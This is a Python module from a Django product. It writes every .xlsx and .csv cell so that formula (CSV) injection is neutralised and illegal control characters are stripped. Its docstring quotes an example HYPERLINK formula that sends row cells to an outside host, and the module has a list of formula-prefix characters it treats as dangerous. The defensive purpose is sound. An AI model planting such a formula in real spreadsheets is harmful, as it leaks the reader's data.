"""The one writer of spreadsheet cells: every .xlsx (openpyxl) and .csv the product writes.

Two dangers live in a cell that holds text typed by the public (a title, an Open311
description, a reply):

* **Formula injection** (OWASP "CSV injection"). Text beginning with ``=``, ``+``, ``-`` or ``@``
  (or a tab or carriage return, which some spreadsheet programs skip before reading the rest as a
  formula) may run as a formula in the reader's spreadsheet program, e.g.
  ``=HYPERLINK("http://x/?leak="&C2&D2,"点击查看")`` sends other cells of the row away when
  clicked. openpyxl itself turns any str beginning with ``=`` into a formula cell.
* **Characters a workbook cannot hold** (most C0 control characters): openpyxl raises
  ``IllegalCharacterError`` and the export would answer 500 for everyone who can see the row.

How a dangerous text cell is neutralised, so that a person still reads exactly what was typed:

* ``.xlsx``: the cell is written as a string (``data_type = "s"``), which Excel, LibreOffice and
  WPS show verbatim and never evaluate, and it gets the ``quotePrefix`` style, the same flag
  Excel sets when someone types ``'=1+1``: it keeps the text a text when the reader edits the cell
  (F2, Enter) and when the sheet is saved again as CSV. No character is added to the value.
* ``.csv``: a CSV has no types, so the text is prefixed with an apostrophe ``'`` as OWASP
  recommends; spreadsheet programs hide that apostrophe when they show the cell.

Numbers, dates and booleans are never touched: they stay numbers in the workbook.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

from django.utils import timezone
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

# The first characters that make a spreadsheet program read a cell as a formula (OWASP).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def clean(text: str) -> str:
    """``text`` without the characters a workbook refuses (control characters but tab, LF, CR)."""
    return ILLEGAL_CHARACTERS_RE.sub("", text)


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES)


def plain(value: Any) -> Any:
    """A Python value a workbook can store: aware datetimes become local naive ones (Excel has no
    time zones), text is cleaned; everything else as it is."""
    if isinstance(value, dt.datetime):
        return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
    if isinstance(value, str):
        return clean(value)
    return value


def cell(ws: Worksheet | WriteOnlyWorksheet, value: Any, number_format: str | None = None) -> Any:
    """What to append to ``ws`` for ``value``: the plain value, or a cell object when it must be
    forced to text (formula-like) or carries a number format."""
    value = plain(value)
    text = isinstance(value, str)
    if text and is_formula_like(value):
        out = _new_cell(ws, value)
        out.data_type = "s"  # openpyxl made it a formula ("f") on assignment
        out.quotePrefix = True
        return out
    if number_format and not text and isinstance(value, (int, float)):
        out = _new_cell(ws, value)
        out.number_format = number_format
        return out
    return value


def _new_cell(ws: Worksheet | WriteOnlyWorksheet, value: Any) -> Cell:
    if isinstance(ws, WriteOnlyWorksheet):
        made: Cell = WriteOnlyCell(ws, value=value)
        return made
    return Cell(ws, value=value)


def row(
    ws: Worksheet | WriteOnlyWorksheet,
    values: Iterable[Any],
    formats: Mapping[int, str] | None = None,
) -> list[Any]:
    """One row of ``values`` ready for ``ws.append``; ``formats`` maps column index → format."""
    formats = formats or {}
    return [cell(ws, v, formats.get(i)) for i, v in enumerate(values)]


def append(
    ws: Worksheet | WriteOnlyWorksheet,
    values: Iterable[Any],
    formats: Mapping[int, str] | None = None,
) -> None:
    """``ws.append`` through the neutraliser: the only way rows go into a product workbook."""
    ws.append(row(ws, values, formats))


def set_value(ws: Worksheet, coordinate: str, value: Any) -> Cell:
    """``ws[coordinate] = value`` through the neutraliser (for the non-streaming workbooks)."""
    target: Cell = ws[coordinate]
    made = cell(ws, value)
    if isinstance(made, Cell):
        target.value = made.value
        target.data_type = made.data_type
        target.quotePrefix = made.quotePrefix
    else:
        target.value = made
    return target


# ----- CSV ---------------------------------------------------------------------------------------


def csv_value(value: Any) -> Any:
    """A CSV field: formula-like text gets a leading apostrophe, numbers stay as they are."""
    value = plain(value)
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def csv_writerow(writer: Any, values: Sequence[Any]) -> None:
    """``writer.writerow`` (a :func:`csv.writer`) through the neutraliser."""
    writer.writerow([csv_value(v) for v in values])


__all__ = [
    "FORMULA_PREFIXES",
    "append",
    "cell",
    "clean",
    "csv_value",
    "csv_writerow",
    "is_formula_like",
    "plain",
    "row",
    "set_value",
]
